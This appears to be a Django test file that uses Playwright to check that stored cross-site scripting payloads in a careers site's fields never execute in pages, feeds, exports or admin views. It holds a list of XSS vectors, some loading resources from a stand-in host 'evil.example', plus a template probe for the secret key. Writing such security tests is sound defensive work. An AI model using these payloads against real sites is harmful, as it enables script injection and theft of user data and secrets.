"""Scripts in every field: a browser that opens every kind of page and document runs none.

120 payloads, ten in each text. By default one of the texts; STORED_SCRIPTS=all tries each of them.
"""

import os
from itertools import product

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Error

from careers.models import Comparison, Reference, Role, Skill
from jobs.models import Employer, Listing, Source
from tests.test_hostile_text import ADDRESSES, fill_the_site

VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=background:url(//evil.example)>",
    " autofocus tabindex=1 onfocus=alert(1) x=",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]
BREAKOUTS = ["", "\"'>", "</script></title>", "]]>-->"]
PAYLOADS = [breakout + vector for vector, breakout in product(VECTORS, BREAKOUTS)]
TEXTS = [" ".join(PAYLOADS[number::12]) for number in range(12)]
TRIED = TEXTS if os.environ.get("STORED_SCRIPTS") == "all" else TEXTS[5:6]

DOCUMENTS = [
    *(f"/jobs/feed.{kind}" for kind in ("atom", "rss", "json", "csv")),
    *("/compare/table.csv?role=one&role=two", "/compare/table.json?role=one&role=two"),
    *("/salaries/one/data.csv", "/salaries/one/data.json", "/roles/one/share.png"),
    *("/data/", "/disagreements/", "/employers/odd/", "/llms.txt", "/sitemap.xml", "/robots.txt"),
]
# Notes what a page was kept from doing. Chromium itself styles how it shows XML and pictures.
WATCH = """
window.kept = [];
document.addEventListener("securitypolicyviolation", (event) => {
  if (document.contentType === "text/html" || !event.effectiveDirective.startsWith("style-src"))
    window.kept.push(event.effectiveDirective + " " + event.blockedURI);
});
"""
# What a page holds that no page of ours has.
ODD_PARTS = """() => [...document.querySelectorAll("*")].flatMap((element) =>
  [...element.attributes]
    .filter((at) => at.name.startsWith("on") || /^\\s*(javascript|data):/i.test(at.value)
      && ["href", "src", "action"].includes(at.name))
    .map((at) => element.tagName + " " + at.name))"""


@pytest.fixture
def watched(browser, live_server, transactional_db, settings):
    """Opens a page as an editor; collects what a browser says of scripts."""
    settings.STAFF_NEED_SECOND_FACTOR = False
    editor = Client()
    editor.force_login(User.objects.create_superuser("ann"))
    cookie = {"name": "sessionid", "value": editor.cookies["sessionid"].value}
    context = browser.new_context(accept_downloads=True)
    context.add_cookies([cookie | {"url": live_server.url}])
    context.add_init_script(WATCH)
    page, found = context.new_page(), []

    def on_dialog(dialog):
        found.append(f"{page.url}: dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)

    def open_page(address):
        try:
            page.goto(live_server.url + address)
        except Error as error:
            if "Download is starting" in error.message or "ERR_ABORTED" in error.message:
                return
            raise
        found.extend(f"{address}: kept from {each}" for each in page.evaluate("window.kept || []"))
        found.extend(f"{address}: {each}" for each in page.evaluate(ODD_PARTS))

    yield open_page, page, found
    context.close()


def admin_addresses():
    """The lists and the forms of an editor for what holds the texts."""
    for model in (Role, Skill, Comparison, Reference, Listing, Employer, Source):
        name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        yield reverse(f"{name}_changelist")
        yield reverse(f"{name}_change", args=[model.objects.first().pk])


@pytest.mark.parametrize("text", TRIED, ids=map(TEXTS.index, TRIED))
def test_no_stored_script_runs_and_none_is_even_tried(watched, text):
    open_page, _, found = watched
    fill_the_site(text)
    addresses = [*ADDRESSES, *DOCUMENTS, *admin_addresses()]
    addresses.append(Listing.objects.first().get_absolute_url())
    for address in addresses:
        open_page(address)
    assert found == []


def test_the_browser_tells_of_a_script_that_is_there(watched):
    open_page, page, found = watched
    open_page("/about/")
    assert found == []
    page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'")
    page.wait_for_function("window.kept.length > 0")
    assert page.evaluate(ODD_PARTS) == ["IMG onerror"]


def test_there_are_as_many_payloads_as_it_says():
    assert len(set(PAYLOADS)) == 120
